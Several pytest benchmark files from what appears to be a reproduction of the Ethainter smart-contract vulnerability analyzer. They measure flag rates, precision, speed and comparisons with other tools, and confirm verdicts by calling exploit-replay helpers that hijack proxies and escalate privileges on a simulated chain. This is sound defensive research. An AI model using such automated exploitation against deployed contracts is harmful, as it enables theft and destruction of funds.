    counts = benchmark.pedantic(
        lambda: _counts(analyzed_conservative), rounds=1, iterations=1
    )
    ratios = _ratios(baseline, counts)
    _print("conservative", ratios, counts, baseline)
    for kind in FIG8_KINDS:
        if baseline[kind]:
            assert ratios[kind] >= 1.0
    # The smear hits the storage-heavy classes hardest (paper: 2.5-3x).
    assert ratios[TAINTED_SELFDESTRUCT] > 1.2
    assert ratios[TAINTED_OWNER] > 1.2


def test_fig8_battery_shared_prefix_cache(corpus, benchmark):
    """The four-config ablation battery through the shared-prefix cache:
    byte-identical warning sets at a fraction of the cold cost (the
    lift/facts/storage/guards prefix is configuration-independent and is
    computed once per contract instead of once per config)."""
    import time

    from benchmarks.conftest import print_table
    from repro.core import AnalysisConfig, analyze_bytecode
    from repro.core.batch import analyze_battery

    contracts = corpus[:150]
    bytecodes = [contract.runtime for contract in contracts]
    configs = [
        AnalysisConfig(),
        AnalysisConfig(model_storage_taint=False),
        AnalysisConfig(model_guards=False),
        AnalysisConfig(conservative_storage=True),
    ]

    started = time.monotonic()
    cold = [
        [analyze_bytecode(bytecode, config) for bytecode in bytecodes]
        for config in configs
    ]
    cold_time = time.monotonic() - started

    def battery():
        return analyze_battery(bytecodes, configs, jobs=1)

    summaries = benchmark.pedantic(battery, rounds=1, iterations=1)
    started = time.monotonic()
    summaries = analyze_battery(bytecodes, configs, jobs=1)
    shared_time = time.monotonic() - started

    for cold_results, summary in zip(cold, summaries):
        for result, entry in zip(cold_results, summary.entries):
            assert tuple(sorted({w.kind for w in result.warnings})) == entry.kinds

    hits = sum(summary.cache_hits for summary in summaries)
    speedup = cold_time / max(shared_time, 1e-9)
    print_table(
        "Fig. 8 battery: cold vs shared-prefix cache (%d contracts, 4 configs)"
        % len(contracts),
        ["mode", "seconds", "cache hits"],
        [
            ("cold", "%.2f" % cold_time, 0),
            ("shared-prefix", "%.2f (%.2fx)" % (shared_time, speedup), hits),
        ],
    )
    assert hits >= 3 * len(contracts)  # prefix re-used by the other configs
    assert speedup > 1.5


def test_fig8_accessible_selfdestruct_context(analyzed, analyzed_no_guards, benchmark):
    """Sanity anchor: without guards, accessible-selfdestruct floods to
    (nearly) every contract containing the opcode."""
    from repro.core.vulnerabilities import ACCESSIBLE_SELFDESTRUCT

    def count():
        return (
            len(analyzed.flagged(ACCESSIBLE_SELFDESTRUCT)),
            len(analyzed_no_guards.flagged(ACCESSIBLE_SELFDESTRUCT)),
        )

    default_count, ablated_count = benchmark.pedantic(count, rounds=1, iterations=1)
    assert ablated_count > default_count
