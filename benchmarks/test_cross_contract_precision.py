"""Cross-contract precision: the bundle corpus against ground truth.

The acceptance gate for the cross-contract pass, blocking in CI:

* the vulnerable proxy/implementation pair is flagged
  ``proxy-upgrade-hijack`` by BOTH the compiled-plan engine and the legacy
  interpreter, while **neither contract is flagged when analyzed alone**
  (the verdict is genuinely composite);
* the benign owner-guarded pair stays clean — **zero false positives**;
* the escalation pair behaves symmetrically (vulnerable flagged, benign
  clean, contracts alone clean);
* every analysis verdict agrees with the concrete exploit replay on
  ``repro.chain`` (flagged ⇔ exploitable).

Per-template counters land in ``BENCH_cross_contract_precision.json``
(path overridable via ``BENCH_CROSS_CONTRACT_JSON``) so CI tracks the
numbers as artifacts, mirroring the reentrancy precision job.
"""

from __future__ import annotations

import json
import os

import pytest

from benchmarks.conftest import print_table
from repro import api
from repro.core.analysis import AnalysisConfig
from repro.core.linkage import analyze_bundle
from repro.corpus.bundles import (
    BUNDLE_TEMPLATES,
    PROXY_ADDRESS,
    TREASURY_ADDRESS,
    TREASURY_BENEFICIARY_SLOT,
    VAULT_ADDRESS,
)
from repro.kill import BundleKill

ENGINES = ("datalog", "datalog-legacy")

_RESULTS: dict = {}


@pytest.fixture(scope="module", autouse=True)
def _write_report():
    yield
    path = os.environ.get(
        "BENCH_CROSS_CONTRACT_JSON", "BENCH_cross_contract_precision.json"
    )
    with open(path, "w") as handle:
        json.dump(_RESULTS, handle, indent=2, sort_keys=True)
    print("\ncross-contract precision benchmark written to %s" % path)


def _replay(name, bundle):
    if "proxy" in name:
        return BundleKill().hijack_proxy(
            bundle, PROXY_ADDRESS, "execute(address)"
        )
    return BundleKill().escalate(
        bundle,
        VAULT_ADDRESS,
        TREASURY_ADDRESS,
        "route(address)",
        TREASURY_BENEFICIARY_SLOT,
    )


def test_cross_contract_precision(benchmark):
    def experiment():
        per_template = {}
        for name in sorted(BUNDLE_TEMPLATES):
            output = BUNDLE_TEMPLATES[name]()
            row = {
                "labels": sorted(output.labels),
                "flagged": {},
                "alone": {},
                "exploited": None,
                "tp": 0,
                "fp": 0,
                "fn": 0,
            }
            for engine in ENGINES:
                result = analyze_bundle(
                    output.bundle, AnalysisConfig(engine=engine)
                )
                flagged = {f.kind for f in result.cross_findings}
                row["flagged"][engine] = sorted(flagged)
                row["tp"] += len(flagged & output.labels)
                row["fp"] += len(flagged - output.labels)
                row["fn"] += len(output.labels - flagged)
            # Per-contract analysis must stay silent on every bundle
            # member: the verdicts are composite by construction.
            for contract in output.bundle.contracts:
                alone = api.analyze(contract.runtime(), AnalysisConfig())
                row["alone"]["0x%x" % contract.address] = sorted(
                    {w.kind for w in alone.warnings}
                )
            row["exploited"] = _replay(name, output.bundle).success
            per_template[name] = row
        return per_template

    per_template = benchmark.pedantic(experiment, rounds=1, iterations=1)

    tp = sum(r["tp"] for r in per_template.values())
    fp = sum(r["fp"] for r in per_template.values())
    fn = sum(r["fn"] for r in per_template.values())
    _RESULTS.update(
        {
            "templates": per_template,
            "totals": {"tp": tp, "fp": fp, "fn": fn},
            "engines": list(ENGINES),
        }
    )

    print_table(
        "Cross-contract pass — bundle-corpus precision",
        ["template", "ground truth", "flagged", "exploited", "TP", "FP", "FN"],
        [
            (
                name,
                ",".join(row["labels"]) or "(benign)",
                ",".join(row["flagged"]["datalog"]) or "-",
                row["exploited"],
                row["tp"],
                row["fp"],
                row["fn"],
            )
            for name, row in sorted(per_template.items())
        ],
    )

    # Blocking: zero false negatives AND zero false positives — the corpus
    # is small and hand-labeled, so both sides are pinned exactly.
    assert fn == 0, "missed cross-contract vulnerability: %r" % per_template
    assert fp == 0, "false positive on a benign bundle: %r" % per_template

    for name, row in per_template.items():
        # Both engines agree verbatim on every template.
        flagged = {tuple(kinds) for kinds in row["flagged"].values()}
        assert len(flagged) == 1, "engines disagree on %s: %r" % (name, row)
        # No bundle member is flagged in isolation.
        assert all(
            kinds == [] for kinds in row["alone"].values()
        ), "contract flagged alone in %s: %r" % (name, row["alone"])
        # The analysis verdict matches the concrete replay.
        assert row["exploited"] == bool(
            row["labels"]
        ), "verdict/replay mismatch on %s" % name
