"""§6.2 statistics table: percentage of unique contracts flagged per
vulnerability, and the ETH held by flagged contracts.

Paper values (over 240K mainnet contracts):

    accessible selfdestruct        1.2%    2,553,101 ETH
    tainted selfdestruct           0.17%   2,176,212 ETH
    tainted owner variable         1.33%         221 ETH
    unchecked tainted staticcall   0.04%         344 ETH
    tainted delegatecall           0.17%         517 ETH

Shape to reproduce: accessible-selfdestruct and tainted-owner lead by an
order of magnitude over staticcall (the rarest, tied to a new opcode);
overall flag rate stays in the low single-digit percent range; the ETH
distribution is strongly skewed.
"""

from benchmarks.conftest import print_table
from repro.core import analyze_bytecode
from repro.core.vulnerabilities import (
    ACCESSIBLE_SELFDESTRUCT,
    TAINTED_DELEGATECALL,
    TAINTED_OWNER,
    TAINTED_SELFDESTRUCT,
    UNCHECKED_STATICCALL,
    VULNERABILITY_KINDS,
)

PAPER_PERCENTAGES = {
    ACCESSIBLE_SELFDESTRUCT: 1.2,
    TAINTED_SELFDESTRUCT: 0.17,
    TAINTED_OWNER: 1.33,
    UNCHECKED_STATICCALL: 0.04,
    TAINTED_DELEGATECALL: 0.17,
}
# Table 1 covers the paper's five taint classes; the reentrancy stratum is
# scored separately (test_reentrancy_precision.py) and its templates are
# not in the default corpus mix.
PAPER_KINDS = tuple(sorted(PAPER_PERCENTAGES))


def test_table1_flag_rates(benchmark, corpus, analyzed):
    def sweep():
        rates = {}
        eth = {}
        for kind in VULNERABILITY_KINDS:
            flagged = analyzed.flagged(kind)
            rates[kind] = 100.0 * len(flagged) / len(corpus)
            eth[kind] = sum(contract.eth_held for contract in flagged)
        return rates, eth

    rates, eth = benchmark.pedantic(sweep, rounds=1, iterations=1)

    print_table(
        "Table 1 — flagged contracts per vulnerability",
        ["vulnerability", "paper %", "measured %", "measured ETH held (wei)"],
        [
            (kind, PAPER_PERCENTAGES[kind], "%.2f" % rates[kind], eth[kind])
            for kind in PAPER_KINDS
        ],
    )

    # Shape assertions.
    # 1. staticcall is the rarest class (new opcode, few users).
    assert rates[UNCHECKED_STATICCALL] <= min(
        rates[kind] for kind in PAPER_KINDS if kind != UNCHECKED_STATICCALL
    )
    # 2. the selfdestruct/owner classes lead delegatecall and staticcall.
    assert rates[ACCESSIBLE_SELFDESTRUCT] > rates[TAINTED_DELEGATECALL]
    assert rates[TAINTED_OWNER] > rates[UNCHECKED_STATICCALL]
    # 3. flag rates stay in the "small fraction of the chain" regime.
    total_flagged = len(analyzed.flagged_any())
    assert total_flagged / len(corpus) < 0.15
    # 4. every class is represented (the corpus exercises all detectors).
    assert all(rates[kind] > 0 for kind in PAPER_KINDS if kind != UNCHECKED_STATICCALL)


def test_single_contract_analysis_cost(benchmark, corpus):
    """Per-contract analysis latency, the unit underlying the whole table."""
    contract = next(c for c in corpus if c.template == "composite_victim")
    result = benchmark(lambda: analyze_bytecode(contract.runtime))
    assert result.flagged
