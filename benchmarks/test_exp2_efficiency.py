"""§6.3 efficiency (RQ2): analysis throughput and per-contract latency.

Paper: the full 240K-contract blockchain (38 MLoC of 3-address code) in
6 hours on 45 concurrent processes — under 5 seconds per contract
including decompilation, with ~98% of contracts finishing inside the 120 s
cutoff; contrasted with Oyente's 350 s average and Securify's >5x-slower,
non-parallelizable runs.

Shape to reproduce: per-contract time far below the cutoff, timeouts
(near-)absent, the decompile+analyze pipeline dominated by the lift stage,
and Ethainter's single-contract latency competitive with (here: much lower
than) the symbolic baseline's.
"""

import time

from benchmarks.conftest import print_table
from repro.baselines import TeEtherAnalysis
from repro.core import analyze_bytecode
from repro.decompiler import lift


def test_exp2_throughput(benchmark, corpus):
    def sweep():
        started = time.monotonic()
        timeouts = 0
        slowest = 0.0
        for contract in corpus:
            result = analyze_bytecode(contract.runtime)
            slowest = max(slowest, result.elapsed_seconds)
            if result.timed_out:
                timeouts += 1
        elapsed = time.monotonic() - started
        return elapsed, timeouts, slowest

    elapsed, timeouts, slowest = benchmark.pedantic(sweep, rounds=1, iterations=1)
    per_contract = elapsed / len(corpus)

    print_table(
        "Experiment 2 — efficiency",
        ["metric", "paper", "measured"],
        [
            ("contracts analyzed", "240K", len(corpus)),
            ("avg time per contract", "< 5 s", "%.1f ms" % (per_contract * 1000)),
            ("slowest contract", "<= 120 s (cutoff)", "%.1f ms" % (slowest * 1000)),
            ("timeouts", "~2%", timeouts),
            ("throughput", "~11/s (45 procs)", "%.0f/s (1 proc)" % (1 / per_contract)),
        ],
    )

    assert per_contract < 1.0  # well under the paper's 5 s average
    assert timeouts == 0
    assert slowest < 120.0


def test_scaling_is_linear_in_contract_size(benchmark, corpus):
    """RQ2 scaling: per-statement analysis cost must not grow with contract
    size (the paper's whole-chain run relies on flat per-contract cost)."""

    def sweep():
        buckets = {"small": [], "medium": [], "large": []}
        for contract in corpus:
            result = analyze_bytecode(contract.runtime)
            if result.statement_count == 0:
                continue
            per_statement = result.elapsed_seconds / result.statement_count
            if result.statement_count < 150:
                buckets["small"].append(per_statement)
            elif result.statement_count < 400:
                buckets["medium"].append(per_statement)
            else:
                buckets["large"].append(per_statement)
        return {
            name: (sum(values) / len(values) if values else 0.0, len(values))
            for name, values in buckets.items()
        }

    averages = benchmark.pedantic(sweep, rounds=1, iterations=1)
    print_table(
        "per-statement analysis cost by contract size",
        ["bucket", "contracts", "us per TAC statement"],
        [
            (name, count, "%.1f" % (seconds * 1e6))
            for name, (seconds, count) in averages.items()
        ],
    )
    small_cost, small_count = averages["small"]
    large_cost, large_count = averages["large"]
    assert small_count and large_count
    # Allow healthy slack: "linear" here means no blow-up, not perfection.
    assert large_cost < small_cost * 20


def test_lift_stage_cost(benchmark, corpus):
    """Decompilation latency alone (the pipeline's dominant stage)."""
    contract = max(corpus, key=lambda c: len(c.runtime))
    program = benchmark(lambda: lift(contract.runtime))
    assert program.blocks


def test_analysis_vs_symbolic_latency(benchmark, corpus):
    """Static analysis must be much cheaper than symbolic execution on the
    same contract (the design-space contrast of §6.2)."""
    contract = next(c for c in corpus if c.template == "safe_token")

    started = time.monotonic()
    analyze_bytecode(contract.runtime)
    static_time = time.monotonic() - started

    def symbolic():
        return TeEtherAnalysis().analyze(contract.runtime)

    result = benchmark.pedantic(symbolic, rounds=1, iterations=1)
    started = time.monotonic()
    TeEtherAnalysis().analyze(contract.runtime)
    symbolic_time = time.monotonic() - started

    print_table(
        "static vs symbolic latency (one token contract)",
        ["tool", "seconds"],
        [
            ("ethainter", "%.4f" % static_time),
            ("teether", "%.4f" % symbolic_time),
        ],
    )
    assert static_time < max(symbolic_time, 0.001) * 50


def test_parallel_batch_analysis(benchmark, corpus):
    """The paper runs 45 concurrent analysis processes; repro.core.batch is
    the equivalent driver.  Parallel and sequential runs must agree exactly;
    wall-clock speedup is reported (informational — fork overhead dominates
    at corpus scale, the paper's win comes at 240K contracts)."""
    import os

    from repro.core.batch import analyze_many

    bytecodes = [contract.runtime for contract in corpus[:200]]

    started = time.monotonic()
    sequential = analyze_many(bytecodes, jobs=1)
    sequential_time = time.monotonic() - started

    jobs = min(4, os.cpu_count() or 1)

    def parallel_run():
        return analyze_many(bytecodes, jobs=jobs)

    parallel = benchmark.pedantic(parallel_run, rounds=1, iterations=1)
    started = time.monotonic()
    analyze_many(bytecodes, jobs=jobs)
    parallel_time = time.monotonic() - started

    print_table(
        "batch analysis: sequential vs %d processes (200 contracts)" % jobs,
        ["mode", "seconds", "flagged"],
        [
            ("sequential", "%.2f" % sequential_time, sequential.flagged),
            ("parallel", "%.2f" % parallel_time, parallel.flagged),
        ],
    )
    assert [e.kinds for e in sequential.entries] == [e.kinds for e in parallel.entries]
    assert sequential.errors == parallel.errors == 0
