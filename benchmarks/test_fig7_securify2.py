"""Figure 7: comparison with Securify2 over the source-available universe.

Paper (6,094 analyzable contracts out of 7,276 compiling with solc 0.5.8+,
which is <3% of all deployed contracts):

    outcome / vulnerability        Securify2            Ethainter
    timeouts (at 120 s)            441                  117
    accessible selfdestruct        5  (TP 5/5)          15 (TP 11/15)
    tainted owner / unr. write     3502 (TP 0/10)       161 (TP 6/10)
    tainted delegatecall           3  (TP 0/3)          21 (TP 15/21)

Shape to reproduce: Securify2's domain is a small slice of the corpus; its
selfdestruct reports are few but precise; its unrestricted-write pattern is
orders of magnitude noisier than Ethainter's tainted-owner with ~zero
precision; its
delegatecall completeness collapses because the pattern hides in inline
assembly; Ethainter reports more findings at high precision on the same
universe.
"""

from benchmarks.conftest import print_table
from repro.baselines import Securify2Analysis
from repro.baselines.securify2 import (
    UNRESTRICTED_DELEGATECALL,
    UNRESTRICTED_SELFDESTRUCT,
    UNRESTRICTED_WRITE,
)
from repro.core.vulnerabilities import (
    ACCESSIBLE_SELFDESTRUCT,
    TAINTED_DELEGATECALL,
    TAINTED_OWNER,
)


def test_fig7_securify2_comparison(benchmark, corpus, analyzed):
    def experiment():
        securify2 = Securify2Analysis()
        universe = [c for c in corpus if c.securify2_applicable]
        outcomes = []
        timeouts = 0
        for contract in universe:
            result = securify2.analyze(
                contract.source,
                contract.name,
                contract.solidity_version,
                contract.has_source,
                contract.inline_assembly,
            )
            if result.timed_out:
                timeouts += 1
                continue
            outcomes.append((contract, result))
        return universe, outcomes, timeouts

    universe, outcomes, timeouts = benchmark.pedantic(experiment, rounds=1, iterations=1)

    def score(pairs, truth_kind):
        true_positive = sum(1 for c in pairs if truth_kind in c.labels)
        return true_positive, len(pairs)

    s2_selfdestruct = [c for c, r in outcomes if UNRESTRICTED_SELFDESTRUCT in r.patterns()]
    s2_write = [c for c, r in outcomes if UNRESTRICTED_WRITE in r.patterns()]
    s2_delegate = [c for c, r in outcomes if UNRESTRICTED_DELEGATECALL in r.patterns()]

    eth_universe = [
        (c, analyzed.results[c.index]) for c in universe
    ]
    eth_selfdestruct = [c for c, r in eth_universe if r.has(ACCESSIBLE_SELFDESTRUCT)]
    eth_owner = [c for c, r in eth_universe if r.has(TAINTED_OWNER)]
    eth_delegate = [c for c, r in eth_universe if r.has(TAINTED_DELEGATECALL)]

    rows = [
        ("universe size", "6094", len(universe)),
        ("securify2 timeouts", "441", timeouts),
        (
            "accessible selfdestruct",
            "S2: 5 (5/5)  Eth: 15 (11/15)",
            "S2: %d (%d/%d)  Eth: %d (%d/%d)"
            % (
                len(s2_selfdestruct),
                *score(s2_selfdestruct, ACCESSIBLE_SELFDESTRUCT),
                len(eth_selfdestruct),
                *score(eth_selfdestruct, ACCESSIBLE_SELFDESTRUCT),
            ),
        ),
        (
            "owner / unrestricted write",
            "S2: 3502 (0/10)  Eth: 161 (6/10)",
            "S2: %d (%d/%d)  Eth: %d (%d/%d)"
            % (
                len(s2_write),
                *score(s2_write, TAINTED_OWNER),
                len(eth_owner),
                *score(eth_owner, TAINTED_OWNER),
            ),
        ),
        (
            "tainted delegatecall",
            "S2: 3 (0/3)  Eth: 21 (15/21)",
            "S2: %d (%d/%d)  Eth: %d (%d/%d)"
            % (
                len(s2_delegate),
                *score(s2_delegate, TAINTED_DELEGATECALL),
                len(eth_delegate),
                *score(eth_delegate, TAINTED_DELEGATECALL),
            ),
        ),
    ]
    print_table("Figure 7 — Securify2 vs Ethainter", ["row", "paper", "measured"], rows)

    # Shape assertions.
    assert 0 < len(universe) < len(corpus) * 0.6  # a minority slice
    # Unrestricted write is the noise firehose with ~zero precision.
    write_tp, write_total = score(s2_write, TAINTED_OWNER)
    if write_total:
        assert write_tp / write_total < 0.2
    assert len(s2_write) > len(eth_owner)
    # Inline assembly hides the delegatecall pattern from the source tool:
    # Ethainter finds at least as many, including all assembly-based ones.
    assembly_delegates = [
        c
        for c in universe
        if TAINTED_DELEGATECALL in c.labels and c.inline_assembly
    ]
    for contract in assembly_delegates:
        assert analyzed.results[contract.index].has(TAINTED_DELEGATECALL)
        securify2 = Securify2Analysis().analyze(
            contract.source,
            contract.name,
            contract.solidity_version,
            contract.has_source,
            contract.inline_assembly,
        )
        assert UNRESTRICTED_DELEGATECALL not in securify2.patterns()
    # Ethainter's findings on the same universe are more precise overall.
    eth_flagged = [c for c, r in eth_universe if r.flagged]
    if eth_flagged:
        eth_precision = sum(1 for c in eth_flagged if c.is_vulnerable) / len(eth_flagged)
        assert eth_precision >= 0.5


def test_securify2_single_contract_cost(benchmark, corpus):
    contract = next(c for c in corpus if c.securify2_applicable)
    result = benchmark(
        lambda: Securify2Analysis().analyze(
            contract.source,
            contract.name,
            contract.solidity_version,
            contract.has_source,
            contract.inline_assembly,
        )
    )
    assert result.applicable
