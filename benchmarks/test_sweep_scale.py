"""Blockchain-scale sweep: throughput scales with unique bytecode.

Ethainter's headline scalability claim rests on deduplication — ~38M
deployed mainnet contracts collapse to ~240K unique bytecodes (§6.1), so
whole-chain analysis pays per *unique* contract, not per *deployed*
contract.  This benchmark pins our reproduction of that claim: a deduped
sweep over a synthetic mainnet (Zipf-like duplication over the template
corpus, >=80% duplicate rate) must beat the naive per-submission path by
``MIN_SPEEDUP`` in contracts/sec while producing byte-identical
per-submission entries (modulo timing fields).

Measurement discipline: both sides run the supervised orchestrator with
``jobs=JOBS`` and per-worker artifact caches *disabled*
(``cache_entries=0``).  At real blockchain scale the unique set (~240K)
dwarfs any in-memory stage cache, so the naive path pays full analysis per
submission; at this benchmark's toy scale a 256-entry LRU would hold the
whole unique set and silently hand the naive side most of the dedup win,
pinning nothing.  The default-cache and serial numbers are still measured
and recorded in the JSON as informational context.

Results are written to ``BENCH_sweep_scale.json`` (path overridable via
``BENCH_SWEEP_SCALE_JSON``; scale via ``BENCH_SWEEP_SCALE_TOTAL`` /
``BENCH_SWEEP_SCALE_UNIQUE``) so CI tracks contracts/sec, unique/sec,
dedup ratio, and IPC batch sizes from artifact to artifact.
"""

from __future__ import annotations

import dataclasses
import json
import os
import time
from typing import Dict

import pytest

from benchmarks.conftest import print_table
from repro import api
from repro.corpus import generate_mainnet

MIN_SPEEDUP = 5.0  # deduped contracts/sec >= 5x naive contracts/sec
TOTAL = int(os.environ.get("BENCH_SWEEP_SCALE_TOTAL", "600"))
UNIQUE = int(os.environ.get("BENCH_SWEEP_SCALE_UNIQUE", "60"))
SEED = 2020
DUP_SEED = 7
JOBS = 2

# Fields that vary run to run without changing the verdict (same set the
# orchestrator equivalence tests ignore).
VOLATILE_FIELDS = {"elapsed_seconds", "stage_seconds", "cache_hits", "cache_misses"}

_RESULTS: Dict[str, Dict] = {}


@pytest.fixture(scope="module", autouse=True)
def _write_report():
    """Write ``BENCH_sweep_scale.json`` after the module's benchmarks ran
    (even partially — a failed assertion still leaves the measured numbers)."""
    yield
    path = os.environ.get("BENCH_SWEEP_SCALE_JSON", "BENCH_sweep_scale.json")
    with open(path, "w") as handle:
        json.dump(_RESULTS, handle, indent=2, sort_keys=True)
    print("\nsweep scale benchmark written to %s" % path)


@pytest.fixture(scope="module")
def mainnet():
    net = generate_mainnet(TOTAL, unique=UNIQUE, seed=SEED, duplication_seed=DUP_SEED)
    assert net.manifest["duplicate_rate"] >= 0.80, net.manifest
    return net


def _stable_entries(summary):
    rows = []
    for entry in summary.entries:
        row = dataclasses.asdict(entry)
        for name in VOLATILE_FIELDS:
            row.pop(name, None)
        rows.append(row)
    return rows


def _timed_sweep(bytecodes, **kwargs):
    start = time.perf_counter()
    summary = api.sweep(bytecodes, **kwargs)
    elapsed = time.perf_counter() - start
    assert not summary.degraded, summary.degraded_reason
    assert summary.errors == 0, summary.error_kind_counts()
    return summary, elapsed


class TestSweepScale:
    def test_dedup_throughput_and_identity(self, mainnet):
        bytecodes = mainnet.bytecodes()
        total = len(bytecodes)

        # Controlled comparison: orchestrator on both sides, stage caches
        # off (see module docstring for why).
        no_cache = api.OrchestratorOptions(executor="orchestrator", cache_entries=0)
        naive, naive_s = _timed_sweep(
            bytecodes, jobs=JOBS, dedup=False, options=no_cache
        )
        deduped, dedup_s = _timed_sweep(bytecodes, jobs=JOBS, options=no_cache)

        assert _stable_entries(naive) == _stable_entries(deduped)
        assert deduped.tasks_total == total
        assert deduped.tasks_unique == len({bc for bc in bytecodes})
        assert deduped.dedup_hits == total - deduped.tasks_unique
        assert naive.dedup_hits == 0

        naive_cps = total / naive_s
        dedup_cps = total / dedup_s
        speedup = dedup_cps / naive_cps

        # Informational context: the same sweep with default per-worker
        # caches (which mask the dedup win at toy scale) and serially.
        _, cached_s = _timed_sweep(bytecodes, jobs=JOBS, executor="orchestrator")
        _, serial_s = _timed_sweep(bytecodes, executor="serial")

        orchestrator = dict(deduped.orchestrator)
        _RESULTS["synthetic_mainnet"] = {
            "manifest": {
                key: value
                for key, value in mainnet.manifest.items()
                if key != "template_mix"
            },
            "jobs": JOBS,
            "naive_seconds": round(naive_s, 4),
            "dedup_seconds": round(dedup_s, 4),
            "contracts_per_second_naive": round(naive_cps, 2),
            "contracts_per_second_dedup": round(dedup_cps, 2),
            "unique_per_second": round(deduped.tasks_unique / dedup_s, 2),
            "speedup": round(speedup, 2),
            "min_speedup": MIN_SPEEDUP,
            "dedup_ratio": round(total / deduped.tasks_unique, 2),
            "tasks_total": deduped.tasks_total,
            "tasks_unique": deduped.tasks_unique,
            "dedup_hits": deduped.dedup_hits,
            "ipc_batches": orchestrator.get("ipc_batches", 0),
            "dispatched": orchestrator.get("dispatched", 0),
            "mean_ipc_batch_size": round(
                orchestrator.get("dispatched", 0)
                / max(1, orchestrator.get("ipc_batches", 0)),
                2,
            ),
            "entries_identical": True,
            "informational": {
                "dedup_default_cache_seconds": round(cached_s, 4),
                "serial_default_cache_seconds": round(serial_s, 4),
            },
        }
        print_table(
            "Sweep scale: %d submissions / %d unique (dup rate %.0f%%), %d workers"
            % (
                total,
                deduped.tasks_unique,
                100 * mainnet.manifest["duplicate_rate"],
                JOBS,
            ),
            ["path", "seconds", "contracts/s"],
            [
                ["naive (no cache)", "%.3f" % naive_s, "%.1f" % naive_cps],
                ["dedup (no cache)", "%.3f" % dedup_s, "%.1f" % dedup_cps],
                ["speedup", "", "%.2fx" % speedup],
            ],
        )
        assert speedup >= MIN_SPEEDUP, (
            "dedup sweep only %.2fx faster than naive (budget %.1fx)"
            % (speedup, MIN_SPEEDUP)
        )

    def test_result_cache_warm_run(self, mainnet, tmp_path):
        """A warm re-sweep resolves every identity from the cross-run disk
        cache — the daemon-style workload where most submissions repeat."""
        bytecodes = mainnet.bytecodes()
        cache_dir = str(tmp_path / "result-cache")

        cold, cold_s = _timed_sweep(bytecodes, jobs=JOBS, result_cache=cache_dir)
        warm, warm_s = _timed_sweep(bytecodes, jobs=JOBS, result_cache=cache_dir)

        assert cold.result_cache_hits == 0
        assert warm.result_cache_hits == warm.tasks_unique
        assert _stable_entries(cold) == _stable_entries(warm)

        _RESULTS["result_cache"] = {
            "cold_seconds": round(cold_s, 4),
            "warm_seconds": round(warm_s, 4),
            "warm_speedup": round(cold_s / warm_s, 2),
            "result_cache_hits": warm.result_cache_hits,
            "tasks_unique": warm.tasks_unique,
        }
        print_table(
            "Cross-run result cache: %d submissions / %d unique"
            % (len(bytecodes), warm.tasks_unique),
            ["run", "seconds"],
            [
                ["cold", "%.3f" % cold_s],
                ["warm", "%.3f" % warm_s],
                ["speedup", "%.2fx" % (cold_s / warm_s)],
            ],
        )
        assert warm_s < cold_s
