"""Reentrancy stratum precision/recall against the labeled template set.

The paper's Fig. 6 protocol (sampled warnings scored against ground truth)
applied to the reentrancy corpus: every labeled template is instantiated
under several seeds, analyzed, and the flagged kind set is compared with
the template's label set exactly.

Blocking: **zero false negatives** — every labeled vulnerable instance
(DAO-style withdraw, cross-function variant, composite guard-bypass
chain, CEI-violating payout) must be flagged.  False positives on the
safe variants (CEI-ordered, mutex-guarded) are *tracked*, not asserted to
zero here; the count lands in ``BENCH_reentrancy_precision.json`` (path
overridable via ``BENCH_REENTRANCY_JSON``) so CI follows the trajectory
from artifact to artifact.
"""

from __future__ import annotations

import json
import os
import random

import pytest

from benchmarks.conftest import print_table
from repro import api
from repro.corpus import REENTRANCY_TEMPLATES
from repro.minisol import compile_source

SEEDS = (11, 23, 47)

_RESULTS: dict = {}


@pytest.fixture(scope="module", autouse=True)
def _write_report():
    """Write ``BENCH_reentrancy_precision.json`` after the module ran (even
    partially — a failed assertion still leaves the measured numbers)."""
    yield
    path = os.environ.get(
        "BENCH_REENTRANCY_JSON", "BENCH_reentrancy_precision.json"
    )
    with open(path, "w") as handle:
        json.dump(_RESULTS, handle, indent=2, sort_keys=True)
    print("\nreentrancy precision benchmark written to %s" % path)


def test_reentrancy_precision(benchmark):
    def experiment():
        per_template = {}
        for name in sorted(REENTRANCY_TEMPLATES):
            stats = {"contracts": 0, "tp": 0, "fp": 0, "fn": 0, "labels": None}
            for seed in SEEDS:
                output = REENTRANCY_TEMPLATES[name](random.Random(seed))
                contract = compile_source(output.source, output.contract_name)
                flagged = {
                    w.kind for w in api.analyze(contract.runtime).warnings
                }
                stats["contracts"] += 1
                stats["tp"] += len(flagged & output.labels)
                stats["fp"] += len(flagged - output.labels)
                stats["fn"] += len(output.labels - flagged)
                stats["labels"] = sorted(output.labels)
            per_template[name] = stats
        return per_template

    per_template = benchmark.pedantic(experiment, rounds=1, iterations=1)

    tp = sum(s["tp"] for s in per_template.values())
    fp = sum(s["fp"] for s in per_template.values())
    fn = sum(s["fn"] for s in per_template.values())
    precision = tp / (tp + fp) if tp + fp else 1.0
    recall = tp / (tp + fn) if tp + fn else 1.0
    _RESULTS.update(
        {
            "templates": per_template,
            "totals": {
                "tp": tp,
                "fp": fp,
                "fn": fn,
                "precision": precision,
                "recall": recall,
            },
        }
    )

    print_table(
        "Reentrancy stratum — labeled-template precision/recall",
        ["template", "ground truth", "TP", "FP", "FN"],
        [
            (
                name,
                ",".join(stats["labels"]) or "(safe)",
                stats["tp"],
                stats["fp"],
                stats["fn"],
            )
            for name, stats in sorted(per_template.items())
        ]
        + [
            (
                "TOTAL",
                "precision %.2f / recall %.2f" % (precision, recall),
                tp,
                fp,
                fn,
            )
        ],
    )

    # Blocking: every labeled vulnerable instance is caught.
    assert fn == 0, "false negatives on the labeled reentrancy corpus"
    # The safe variants exist and are scored (they supply the FP budget).
    safe = [s for s in per_template.values() if not s["labels"]]
    assert safe, "corpus must include safe (CEI/mutex) variants"
    # FP count is tracked, not pinned — but it must stay in a sane band
    # relative to corpus size (every safe contract false-positive on every
    # seed would mean the mutex/CEI modeling regressed wholesale).
    assert fp <= len(per_template) * len(SEEDS) // 2
