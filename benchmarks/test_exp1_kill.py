"""§6.1 Experiment 1: automated end-to-end exploitation (Ethainter-Kill).

Paper: 4,800 contracts flagged on the Ropsten fork; 3,003 with a reachable
public entry point; 805 destroyed (16.7% of flagged) — a *lower bound* on
precision, limited by Ethainter-Kill's crude argument generation.

Shape to reproduce: a substantial fraction of flagged contracts is
destroyed fully automatically; the failures split into the paper's classes
(argument heuristics fail on magic values, plans revert on dead state,
beneficiary-tainted-but-guarded contracts are not directly killable).
Our kill rate is *higher* than the paper's because the corpus is simpler
and our planner is guided by the full analysis artifacts; the lower-bound
character (0 < rate < 1) is what carries over.
"""

from collections import Counter

from benchmarks.conftest import print_table
from repro.chain import Blockchain
